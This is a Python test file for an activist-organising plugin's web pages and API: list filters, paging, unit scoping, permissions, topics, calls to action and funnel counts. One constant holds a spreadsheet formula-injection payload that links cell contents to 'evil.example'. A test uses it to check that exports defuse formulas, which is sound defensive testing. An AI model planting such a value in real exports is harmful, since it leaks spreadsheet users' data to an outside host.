"""The offices' activist pages over HTTP (issue #27, items 1, 2 and 7): the activist list with
its filters, pages and formula-safe download (audited), the person panel, topics for the
deployment's admins, calls to action (draft, reach, publish, results per unit), the funnel;
404 across units, nothing without the permission."""

from __future__ import annotations

import asyncio
import io
from datetime import timedelta

import msgspec
import pytest

from core import db
from core.api import ConsentIn, record_consent, utcnow
from core.audit.services import flush_list_reads
from core.context import set_runtime
from tests.core.console.helpers import console_login as _login
from tests.core.console.helpers import csrf_of

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'


@pytest.fixture(autouse=True)
def _runtime(app, client) -> None:
    """The services the tests call directly read the module's settings."""
    set_runtime(app.state.orga)


async def make_activist(
    factory,
    org: dict,
    first_name: str,
    *,
    topics: tuple[str, ...] = (),
    help: tuple[str, ...] = (),
    source: str = "web",
    status: str = "confirmed",
    active_days_ago: int = 1,
    created=None,
    **person,
) -> dict:
    """A person of unit ``org`` in the network (rows as the sign-up and confirmation leave
    them: e-mail consent granted), with ``topics`` (slugs)."""
    from plugins.linksaktiv.calls import topics as all_topics

    email = person.pop("email", f"{first_name.lower()}@example.org")
    row = await factory.person(org["id"], first_name=first_name, email=email, **person)
    now = utcnow()
    joined = created or now - timedelta(days=30)
    await db.execute(
        "INSERT INTO linksaktiv_activist (person_id, status, source, help, consent_wording, "
        "confirmed_at, last_active_at, created_at, updated_at) "
        "VALUES ({}, {}, {}, {}, 'Ja', {}, {}, {}, {})",
        row["id"],
        status,
        source,
        msgspec.json.encode(sorted(help)).decode(),
        joined if status == "confirmed" else None,
        now - timedelta(days=active_days_ago),
        joined,
        joined,
    )
    known = {t["slug"]: t["id"] for t in await all_topics()}
    for slug in topics:
        await db.execute(
            "INSERT INTO linksaktiv_interest (person_id, topic_id) VALUES ({}, {})",
            row["id"],
            known[slug],
        )
    await record_consent(row["id"], ConsentIn(channel="email", status="granted", source="test"))
    return row


async def console_login(client, email: str) -> None:
    """Log in and read the pages in English (the words the assertions look for)."""
    client.cookies.clear()
    await _login(client, email)
    client.cookies.set("orga_lang", "en")


def page(org: dict, path: str) -> str:
    return f"/app/orgs/{org['id']}/linksaktiv{path}"


async def _audited(app, action: str, expected: int) -> list[dict]:
    for _ in range(100):
        await flush_list_reads(app)
        rows = await db.fetch("SELECT detail FROM audit_log WHERE action = {} ORDER BY id", action)
        if len(rows) >= expected:
            return rows
        await asyncio.sleep(0.05)
    return rows


async def test_activist_list_filters_pages_and_stays_in_its_units(app, client, factory, party):
    rosa = await make_activist(
        factory, party.leipzig, "Rosa", topics=("rent",), help=("doors",), source="info_stand"
    )
    await make_activist(
        factory, party.leipzig, "Karl", topics=("care",), help=("phone",), active_days_ago=90
    )
    await make_activist(factory, party.leipzig, "Clara", status="pending", topics=("rent",))
    await make_activist(factory, party.dresden, "August", topics=("rent",))
    organizer = await factory.user("organizer", party.leipzig["id"])
    await console_login(client, organizer.email)

    def names(html: str) -> set[str]:
        return {n for n in ("Rosa", "Karl", "Clara", "August") if f">{n} " in html}

    everyone = await client.get(page(party.leipzig, "/activists"))
    assert everyone.status_code == 200
    assert names(everyone.text) == {"Rosa", "Karl", "Clara"}  # not Dresden's
    assert 'href="/app/orgs/{}/linksaktiv/activists"'.format(party.leipzig["id"]) in everyone.text
    for params, expected in (
        ({"topics": "rent"}, {"Rosa", "Clara"}),
        ({"topics": ["rent", "care"], "status": "confirmed"}, {"Rosa", "Karl"}),
        ({"help": "doors"}, {"Rosa"}),
        ({"source": "info_stand"}, {"Rosa"}),
        ({"status": "pending"}, {"Clara"}),
        ({"active_since": (utcnow() - timedelta(days=10)).date().isoformat()}, {"Rosa", "Clara"}),
    ):
        shown = await client.get(page(party.leipzig, "/activists"), params=params)
        assert shown.status_code == 200, (params, shown.text[:500])
        assert names(shown.text) == expected, params
    state_admin = await factory.user("organizer", party.state["id"])
    await console_login(client, state_admin.email)
    district = await client.get(
        page(party.state, "/activists"), params={"unit_id": party.dresden["id"]}
    )
    assert names(district.text) == {"August"}
    first = await client.get(page(party.state, "/activists"), params={"topics": "rent"})
    assert names(first.text) == {"Rosa", "Clara", "August"}
    await console_login(client, organizer.email)
    wrong = await client.get(
        page(party.leipzig, "/activists"), params={"unit_id": party.dresden["id"]}
    )
    assert wrong.status_code == 422 and 'id="f-unit_id-error"' in wrong.text
    bad = await client.get(page(party.leipzig, "/activists"), params={"status": "nonsense"})
    assert bad.status_code == 422 and 'id="f-status-error"' in bad.text
    assert (await client.get(page(party.dresden, "/activists"))).status_code == 404
    rows = await _audited(app, "linksaktiv.activists_listed", 1)
    assert rosa["id"] in db.json_value(rows[0]["detail"])["people"]


async def test_the_list_pages_by_person(client, factory, party, monkeypatch):
    from plugins.linksaktiv import activist_pages

    monkeypatch.setattr(activist_pages, "PAGE_SIZE", 2)
    for name in ("Anna", "Berta", "Carla"):
        await make_activist(factory, party.leipzig, name, topics=("rent",))
    await console_login(client, party.admin.email)
    first = await client.get(page(party.leipzig, "/activists"), params={"topics": "rent"})
    assert ">Anna " in first.text and ">Carla " not in first.text
    href = first.text.split('rel="next"')[0].rsplit('href="', 1)[1].split('"')[0]
    second = await client.get(href.replace("&amp;", "&"))
    assert ">Carla " in second.text and ">Anna " not in second.text


async def test_export_is_formula_safe_filtered_and_audited(app, client, factory, party):
    evil = await make_activist(factory, party.leipzig, EVIL, topics=("rent",))
    await make_activist(factory, party.leipzig, "Karl", topics=("care",))
    await console_login(client, party.admin.email)
    csv = await client.get(
        page(party.leipzig, "/activists/export"), params={"topics": "rent", "format": "csv"}
    )
    assert csv.status_code == 200 and csv.headers["content-type"].startswith("text/csv")
    assert "'=HYPERLINK" in csv.text and "\n=HYPERLINK" not in csv.text
    assert "Karl" not in csv.text
    xlsx = await client.get(
        page(party.leipzig, "/activists/export"), params={"topics": "rent", "format": "xlsx"}
    )
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.cell(2, 2).value.startswith("'=")
    rows = await _audited(app, "linksaktiv.activists_exported", 2)
    detail = db.json_value(rows[0]["detail"])
    assert detail["people"] == [evil["id"]] and detail["filter"]["topics"] == ["rent"]
    bad = await client.get(page(party.leipzig, "/activists/export"), params={"format": "pdf"})
    assert bad.status_code == 422


async def test_without_the_permission_no_menu_entry_and_no_page(client, factory, party):
    caller = await factory.user("caller", party.leipzig["id"])
    await console_login(client, caller.email)
    start = await client.get(f"/app/orgs/{party.leipzig['id']}")
    assert "/linksaktiv/activists" not in start.text
    for path in ("/activists", "/calls", "/funnel", "/topics", "/activists/export"):
        assert (await client.get(page(party.leipzig, path))).status_code == 403, path


async def test_person_panel_shows_the_network_facts_and_links_the_list(client, factory, party):
    rosa = await make_activist(
        factory, party.leipzig, "Rosa", topics=("rent",), help=("doors",), source="info_stand"
    )
    call = await db.fetch(
        "INSERT INTO linksaktiv_call (org_id, title, text, kind, topic_ids, region_ids, "
        "starts_at, published_at, created_at, updated_at) VALUES ({}, 'Mietendeckel', '', "
        "'offline', '[]', '[]', {}, {}, {}, {}) RETURNING id",
        party.leipzig["id"],
        *[utcnow()] * 4,
    )
    await db.execute(
        "INSERT INTO linksaktiv_call_done (call_id, person_id, done_at) VALUES ({}, {}, {})",
        call[0]["id"],
        rosa["id"],
        utcnow(),
    )
    await console_login(client, party.admin.email)
    shown = await client.get(f"/app/orgs/{party.leipzig['id']}/people/{rosa['id']}")
    assert shown.status_code == 200
    panel = shown.text.split('id="mod-linksaktiv"')[1]
    for fact in ("confirmed", "info stand", "rent", "door to door", "Mietendeckel"):
        assert fact in panel, fact
    assert "Newspaper orders" in panel
    assert f'href="/app/orgs/{party.leipzig["id"]}/linksaktiv/activists"' in panel


async def test_topics_are_kept_in_the_root_unit_only(client, factory, party):
    await console_login(client, party.admin.email)
    listed = await client.get(page(party.root, "/topics"))
    assert listed.status_code == 200 and "Add a topic" in listed.text
    bad = await client.post(
        page(party.root, "/topics"),
        data={"slug": "Not A Slug", "title": "Klima", "_csrf": csrf_of(listed.text)},
    )
    assert (
        bad.status_code == 422 and 'id="f-slug-error"' in bad.text and 'value="Klima"' in bad.text
    )
    added = await client.post(
        page(party.root, "/topics"),
        data={"slug": "climate", "title": "Klima", "_csrf": csrf_of(listed.text)},
    )
    assert added.status_code == 303
    topic = await db.fetch_one("SELECT id FROM linksaktiv_topic WHERE slug = 'climate'")
    renamed = await client.post(
        page(party.root, f"/topics/{topic['id']}"),
        data={"title": "Klimagerechtigkeit", "_csrf": csrf_of(listed.text)},
    )
    assert renamed.status_code == 303
    retired = await client.post(
        page(party.root, f"/topics/{topic['id']}"),
        data={"active": "no", "_csrf": csrf_of(listed.text)},
    )
    assert retired.status_code == 303
    row = await db.fetch_one("SELECT title, active FROM linksaktiv_topic WHERE slug = 'climate'")
    assert row == {"title": "Klimagerechtigkeit", "active": False}
    actions = {
        r["action"]
        for r in await db.fetch(
            "SELECT action FROM audit_log WHERE action LIKE 'linksaktiv.topic%'"
        )
    }
    assert actions == {"linksaktiv.topic_created", "linksaktiv.topic_updated"}
    organizer = await factory.user("organizer", party.leipzig["id"])
    await console_login(client, organizer.email)
    local = await client.get(page(party.leipzig, "/topics"))
    assert local.status_code == 200 and "Add a topic" not in local.text
    refused = await client.post(
        page(party.leipzig, "/topics"),
        data={"slug": "x", "title": "X", "_csrf": csrf_of(local.text)},
    )
    assert refused.status_code == 403


async def test_a_call_is_drafted_reaches_its_activists_is_published_and_counted(
    client, factory, party
):
    rosa = await make_activist(factory, party.leipzig, "Rosa", topics=("rent",))
    await make_activist(factory, party.leipzig, "Karl", topics=("care",))
    await make_activist(factory, party.dresden, "August", topics=("rent",))
    await make_activist(factory, party.leipzig, "Clara", status="pending", topics=("rent",))
    await console_login(client, party.admin.email)
    form = await client.get(page(party.state, "/calls/new"))
    assert form.status_code == 200
    token = csrf_of(form.text)
    fields = {
        "title": "Mietendeckel jetzt",
        "text": "Unterschreib die Petition.",
        "kind": "share_link",
        "link": "",
        "starts_at": "2026-01-01T10:00",
        "deadline": "2025-12-01T10:00",
        "topics": "rent",
        "regions": str(party.leipzig["id"]),
        "_csrf": token,
    }
    bad = await client.post(page(party.state, "/calls/new"), data=fields)
    assert bad.status_code == 422
    assert 'id="f-link-error"' in bad.text and 'value="Mietendeckel jetzt"' in bad.text
    fields |= {"link": "https://example.org/petition"}
    bad = await client.post(page(party.state, "/calls/new"), data=fields)
    assert bad.status_code == 422 and 'id="f-deadline-error"' in bad.text
    outside = await client.post(
        page(party.leipzig, "/calls/new"),
        data=fields | {"deadline": "", "regions": str(party.dresden["id"])},
    )
    assert outside.status_code == 422 and 'id="f-regions-error"' in outside.text
    created = await client.post(page(party.state, "/calls/new"), data=fields | {"deadline": ""})
    assert created.status_code == 303
    location = created.headers["location"]
    call = await client.get(location)
    assert "Draft" in call.text
    assert "It reaches 1 activist " in call.text  # Rosa: Leipzig and rent, confirmed
    from plugins.linksaktiv.calls import calls_for

    assert await calls_for(rosa["id"]) == []  # a draft is for nobody yet
    published = await client.post(location + "/publish", data={"_csrf": token})
    assert published.status_code == 303
    assert "Published" in (await client.get(location)).text
    assert [c["title"] for c in await calls_for(rosa["id"])] == ["Mietendeckel jetzt"]
    again = await client.post(location + "/publish", data={"_csrf": token})
    assert again.status_code == 303  # the page says it is published already
    run = await db.fetch("SELECT run_at FROM job WHERE kind = 'linksaktiv.digest'")
    assert len(run) == 1  # the next weekly digest is scheduled
    call_id = int(location.rsplit("/", 1)[1])
    await db.execute(
        "INSERT INTO linksaktiv_call_done (call_id, person_id, done_at) VALUES ({}, {}, {})",
        call_id,
        rosa["id"],
        utcnow(),
    )
    results = await client.get(location + "/results")
    assert results.status_code == 200 and 'id="chart-units"' in results.text
    row = results.text.split("KV Leipzig</th>")[1]
    assert row.split("</td>")[0].endswith(">1")
    listed = await client.get(page(party.state, "/calls"))
    assert "Mietendeckel jetzt" in listed.text and "Published" in listed.text
    actions = [
        r["action"]
        for r in await db.fetch(
            "SELECT action FROM audit_log WHERE action LIKE 'linksaktiv.call%' ORDER BY id"
        )
    ]
    assert actions == ["linksaktiv.call_created", "linksaktiv.call_published"]
    assert (await client.get(page(party.leipzig, f"/calls/{call_id}"))).status_code == 404
    assert (await client.get(page(party.leipzig, f"/calls/{call_id}/results"))).status_code == 404


async def test_the_api_drafts_checks_the_reach_publishes_and_reads_the_results(
    client, factory, party
):
    """The JSON API does what the call's console page does, with the same services: a draft
    (``?draft=true``) is for nobody, its reach counts the matching activists, publishing makes
    it live (409 the second time), the results count per unit; another unit's call is 404."""
    from plugins.linksaktiv.calls import calls_for

    rosa = await make_activist(factory, party.leipzig, "Rosa", topics=("rent",))
    await make_activist(factory, party.leipzig, "Karl", topics=("care",))
    await make_activist(factory, party.dresden, "August", topics=("rent",))
    base = f"/api/orgs/{party.state['id']}/linksaktiv/calls"
    body = {
        "title": "Mietendeckel jetzt",
        "text": "Unterschreib die Petition.",
        "kind": "share_link",
        "link": "https://example.org/petition",
        "starts_at": "2026-01-01T10:00:00Z",
        "topics": ["rent"],
        "regions": [party.leipzig["id"]],
    }
    headers = party.admin.headers
    made = await client.post(base, params={"draft": "true"}, json=body, headers=headers)
    assert made.status_code == 201, made.text
    call = made.json()
    assert call["published_at"] is None
    assert await calls_for(rosa["id"]) == []
    reach = await client.get(f"{base}/{call['id']}/reach", headers=headers)
    assert reach.json() == {"call_id": call["id"], "reach": 1}  # Rosa: Leipzig and rent
    published = await client.post(f"{base}/{call['id']}/publish", headers=headers)
    assert published.status_code == 200, published.text
    assert published.json()["published_at"] is not None
    assert [c["title"] for c in await calls_for(rosa["id"])] == ["Mietendeckel jetzt"]
    again = await client.post(f"{base}/{call['id']}/publish", headers=headers)
    assert again.status_code == 409 and again.json()["errors"][0]["field"] == "published_at"
    await db.execute(
        "INSERT INTO linksaktiv_call_done (call_id, person_id, done_at) VALUES ({}, {}, {})",
        call["id"],
        rosa["id"],
        utcnow(),
    )
    results = await client.get(f"{base}/{call['id']}/results", headers=headers)
    assert results.json()[0] == {
        "org_id": party.leipzig["id"],
        "label": "KV Leipzig",
        "done": 1,
        "own": False,
    }
    assert {r["label"] for r in results.json()} == {"KV Leipzig", "KV Dresden", "Sachsen"}
    elsewhere = f"/api/orgs/{party.leipzig['id']}/linksaktiv/calls/{call['id']}"
    for path in ("/reach", "/results"):
        assert (await client.get(elsewhere + path, headers=headers)).status_code == 404
    assert (await client.post(elsewhere + "/publish", headers=headers)).status_code == 404


async def test_funnel_counts_each_stage_per_month_with_filters(client, factory, party):
    rosa = await make_activist(factory, party.leipzig, "Rosa", source="info_stand")
    await make_activist(factory, party.leipzig, "Clara", status="pending", source="web")
    await make_activist(factory, party.dresden, "August", source="info_stand")
    await db.execute("UPDATE person SET member_status = 'member' WHERE id = {}", rosa["id"])
    await console_login(client, party.admin.email)
    shown = await client.get(page(party.state, "/funnel"))
    assert shown.status_code == 200 and 'id="chart-funnel"' in shown.text

    def totals(html: str) -> list[str]:
        body = html.split('id="funnel-totals"')[1].split("</table>")[0]
        return [cell.split("</td>")[0] for cell in body.split('<td class="num">')[1::2]]

    assert totals(shown.text) == ["3", "2", "0", "0", "1"]
    local = await client.get(
        page(party.state, "/funnel"),
        params={"unit_id": party.leipzig["id"], "source": "info_stand"},
    )
    assert totals(local.text) == ["1", "1", "0", "0", "1"]
    month = utcnow() - timedelta(days=30)
    assert month.strftime("%Y-%m") in local.text
    bad = await client.get(page(party.leipzig, "/funnel"), params={"unit_id": party.dresden["id"]})
    assert bad.status_code == 422 and 'id="f-unit_id-error"' in bad.text
